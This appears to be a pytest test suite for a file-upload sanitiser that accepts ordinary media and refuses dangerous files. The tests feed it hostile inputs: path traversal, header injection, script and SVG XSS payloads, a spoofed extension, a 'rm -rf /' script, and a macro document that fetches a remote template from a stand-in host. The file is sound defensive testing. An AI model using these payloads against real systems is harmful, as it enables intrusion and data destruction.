from __future__ import annotations

import contextlib
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cases.files import EMPTY, PAGE, PROGRAM, UNKNOWN, clean_file, clean_name
from cases.model import CaseError
from cases.word_file import BROKEN, MACROS
from tests.cases import sample_files as samples

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
TAKEN = {
    "photo.jpg": (samples.picture("JPEG"), "image/jpeg"),
    "photo.png": (samples.picture("PNG"), "image/png"),
    "meme.gif": (samples.moving("GIF"), "image/gif"),
    "photo.webp": (samples.picture("WEBP"), "image/webp"),
    "consent.pdf": (samples.PDF, "application/pdf"),
    "consent.docx": (samples.word(), WORD),
    "notes.txt": ("Rehearsal’s at six — café".encode(), "text/plain"),
    "song.mp3": (samples.MP3, "audio/mpeg"),
    "voice.m4a": (samples.mpeg4(b"M4A "), "audio/mp4"),
    "voice.wav": (samples.sound(), "audio/wav"),
    "voice.ogg": (samples.OGG, "audio/ogg"),
    "voice.opus": (samples.OGG, "audio/ogg"),
    "clip.mp4": (samples.mpeg4(b"mp42"), "video/mp4"),
    "clip.mov": (samples.mpeg4(b"qt  "), "video/quicktime"),
    "message.eml": (samples.mail("photo.png", samples.picture("PNG")), "message/rfc822"),
}


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(CaseError) as error:
        clean_file(name, content)
    assert error.value.status == 422
    return error.value.message


@pytest.mark.parametrize("name", TAKEN)
def test_what_people_send_is_taken(name: str) -> None:
    content, media_type = TAKEN[name]
    file = clean_file(name, content)
    assert (file.name, file.media_type) == (name, media_type)


@pytest.mark.parametrize("name", ["consent.pdf", "consent.docx", "voice.wav", "clip.mp4"])
def test_what_is_no_picture_is_kept_as_it_came(name: str) -> None:
    content, _ = TAKEN[name]
    assert clean_file(name, content).content == content


@pytest.mark.parametrize(
    ("name", "kept"),
    [
        ("photo.png", "photo.jpg"),
        ("photo", "photo.jpg"),
        ("photo.jpeg", "photo.jpeg"),
        ("PHOTO.JPG", "PHOTO.jpg"),
        ("holiday.jpg.exe", "holiday.jpg"),
        ("holiday.exe.jpg", "holiday.jpg"),
        ("C:\\pictures\\choir.jpg", "choir.jpg"),
        ("../../etc/passwd", "passwd.jpg"),
        ("/", "file.jpg"),
        ("", "file.jpg"),
        ("..", "file.jpg"),
        (".htaccess", "htaccess.jpg"),
        ("gpj\u202egpj.exe", "gpjgpj.jpg"),
        ("a\r\nSet-Cookie: x.jpg", "aSet-Cookie x.jpg"),
        ('"><script>.jpg', "script.jpg"),
        ("Carol concert, Friday (1).jpg", "Carol concert, Friday (1).jpg"),
        ("naïve café.jpg", "naïve café.jpg"),
        ("x" * 400 + ".jpg", "x" * 96 + ".jpg"),
    ],
)
def test_a_name_is_made_harmless_and_its_ending_right(name: str, kept: str) -> None:
    assert clean_file(name, samples.picture("JPEG")).name == kept


@given(st.text(max_size=150), st.sampled_from([".jpg", ".txt", ".docx"]))
def test_any_name_is_made_harmless(name: str, ending: str) -> None:
    kept = clean_name(name, ending)
    assert kept.endswith(ending)
    assert len(ending) < len(kept) <= 100
    assert not set(kept) & set('\\/:*?"<>|\r\n\0')
    assert kept.isprintable()
    assert kept == kept.strip(" .")


@pytest.mark.parametrize("name", ["photo.jpg", "photo.jpg.exe", "consent.pdf", "setup.exe"])
@pytest.mark.parametrize("content", [samples.EXE, samples.ELF, b"#!/bin/sh\nrm -rf /\n"])
def test_a_picture_that_is_a_program_is_refused_kindly(name: str, content: bytes) -> None:
    assert refusal(name, content) == PROGRAM
    assert "please" in PROGRAM


@pytest.mark.parametrize("ending", ["bat", "js", "vbs", "ps1", "cmd", "JS"])
def test_a_program_in_words_is_refused(ending: str) -> None:
    assert refusal(f"run.{ending}", b"del everything\r\n") == PROGRAM


@pytest.mark.parametrize(
    "content",
    [
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        b'<?xml version="1.0"?><svg></svg>',
        b"<!DOCTYPE html><html></html>",
        b"\xef\xbb\xbf\n  <HTML><body></body></HTML>",
        b"<!-- a comment --><script>alert(1)</script>",
    ],
)
@pytest.mark.parametrize("name", ["drawing.svg", "page.html", "photo.png", "notes.txt"])
def test_pages_and_drawings_with_scripts_are_refused(name: str, content: bytes) -> None:
    assert refusal(name, content) == PAGE


@pytest.mark.parametrize(
    "content",
    [
        samples.archive_of({"a.txt": b"words"}),
        samples.archive_of({"[Content_Types].xml": b"", "xl/workbook.xml": b""}),
        b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
        b"Rar!\x1a\x07\x01\0" + b"\0" * 100,
        b"\x1f\x8b\x08" + b"\0" * 100,
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        bytes(range(256)) * 4,
        b"\0",
        b"RIFF\0\0\0\0AVI " + b"\0" * 100,
        samples.mpeg4(b"avif"),
        b"%PDF-1.7 without an end" + b"\0" * 100,
    ],
)
@pytest.mark.parametrize("name", ["consent.docx", "photo.jpg", "notes.txt", "files.zip"])
def test_what_is_not_on_the_list_is_refused(name: str, content: bytes) -> None:
    assert refusal(name, content) == UNKNOWN


def test_an_empty_file_is_told() -> None:
    assert refusal("photo.jpg", b"") == EMPTY


MACRO_TYPES = b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"
FETCHED = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate"'
    b' Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    "changes",
    [
        {"[Content_Types].xml": MACRO_TYPES},
        {"word/vbaProject.bin": b"x"},
        {"word/activeX/activeX1.xml": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/media/setup.exe": b"MZ"},
        {"word/_rels/settings.xml.rels": FETCHED},
    ],
)
@pytest.mark.parametrize("name", ["consent.docx", "consent.docm", "photo.jpg"])
def test_a_document_that_runs_something_is_refused(name: str, changes: dict[str, bytes]) -> None:
    assert refusal(name, samples.word(changes)) == MACROS


def test_a_link_to_the_web_does_no_harm() -> None:
    link = FETCHED.replace(b"attachedTemplate", b"hyperlink")
    clean_file("consent.docx", samples.word({"word/_rels/document.xml.rels": link}))


def test_a_document_that_would_fill_the_disk_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("cases.word_file.MOST_UNPACKED", 1_000_000)
    assert refusal("a.docx", samples.word({"word/media/a.txt": b"\0" * 1_000_000})) == BROKEN
    monkeypatch.setattr("cases.word_file.LONGEST_PART", 1_000)
    assert refusal("a.docx", samples.word()) == BROKEN


def test_half_a_document_is_told() -> None:
    assert refusal("consent.docx", samples.word()[:5_000]) == BROKEN


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        ("setup.exe", samples.EXE, PROGRAM),
        ("photo.jpg", samples.ELF, PROGRAM),
        ("files.zip", samples.archive_of({"a": b"b"}), UNKNOWN),
        ("a.docm", samples.word({"word/vbaProject.bin": b"x"}), MACROS),
    ],
)
def test_an_email_that_carries_something_harmful_is_refused(
    name: str, content: bytes, said: str
) -> None:
    assert refusal("message.eml", samples.mail(name, content)) == said


def test_an_old_text_becomes_one_that_everybody_can_read() -> None:
    assert clean_file("notes.log", "It’s £5".encode("cp1252")).content.decode() == "It’s £5"
    file = clean_file("notes.csv", "café".encode("utf-16"))
    assert (file.content.decode(), file.name) == ("café", "notes.txt")


@given(st.binary(max_size=300), st.text(alphabet=string.printable, max_size=20))
def test_whatever_is_sent_it_is_taken_or_kindly_refused(content: bytes, name: str) -> None:
    with contextlib.suppress(CaseError):
        assert clean_file(name, content).media_type in {each for _, each in TAKEN.values()}
